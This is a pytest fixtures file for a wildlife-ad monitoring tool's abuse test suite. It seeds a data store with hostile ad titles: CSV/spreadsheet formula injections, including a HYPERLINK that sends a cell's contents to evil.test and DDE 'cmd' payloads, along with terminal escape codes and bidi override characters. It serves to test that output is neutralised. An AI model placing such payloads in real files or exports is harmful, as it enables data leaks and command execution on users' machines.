"""Fixtures of the fault and abuse suite: a real store, the real CLI in a subprocess."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest

from snarewatch.config import Settings
from snarewatch.schema import Ad, Label, Record, stable_id
from snarewatch.store import Landing, load_pending

CLI = Callable[..., subprocess.CompletedProcess[str]]

HOSTILE_TITLES = (
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click for price")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    "Ivory bangle [/b] closes a tag it never opened",
    "[white on white]invisible pangolin scales[/white on white]",
    "\x1b[2J\x1b[31mscreen wiped, text turned red",
    "pangolin \u202escales reversed\u202c",
)
"""Ad titles a hostile seller can post: spreadsheet formulas and terminal markup."""


def run_cli(root: Path, *args: str, stdin: str | None = None, env: dict[str, str] | None = None,
            timeout: float = 180) -> subprocess.CompletedProcess[str]:
    """`snarewatch ARGS` in a subprocess with its data dir under `root` and no config file."""
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("SNAREWATCH_")}
    full_env.update(SNAREWATCH_DATA_DIR=str(root / "data"),
                    SNAREWATCH_CONFIG=str(root / "absent.toml"), HF_HUB_OFFLINE="1",
                    COLUMNS="200", **(env or {}))
    return subprocess.run([sys.executable, "-m", "snarewatch", *args], cwd=root, env=full_env,
                          input=stdin, capture_output=True, text=True, timeout=timeout)


@pytest.fixture
def cli(tmp_path: Path) -> CLI:
    """Run the CLI against a fresh data dir in `tmp_path`."""
    def run(*args: str, stdin: str | None = None,
            env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
        return run_cli(tmp_path, *args, stdin=stdin, env=env)
    return run


def land(settings: Settings, records: Sequence[Record]) -> None:
    """Write records as a landing batch and load them into the store."""
    Landing(settings.landing_dir).write(list(records))
    load_pending(settings.db_path, settings.landing_dir)


@pytest.fixture
def hostile_store(tmp_path: Path) -> Settings:
    """A store whose ads carry hostile titles, each with an LLM label for `wildlife`."""
    settings = Settings(data_dir=tmp_path / "data")
    ads, labels = [], []
    for i, title in enumerate(HOSTILE_TITLES):
        ad_id = stable_id("hostile", i)
        ads.append(Ad(ad_id=ad_id, site="evil.test", url=f"http://evil.test/ad/{i}",
                      source="import", title=title, description="-5 off today", price=-3.5))
        labels.append(Label(label_id=stable_id("hostile-label", i), task="wildlife", item_id=ad_id,
                            item_kind="ad", value="wildlife_product", probability=0.9,
                            source="llm:test", model="test"))
    land(settings, ads)
    land(settings, labels)
    return settings
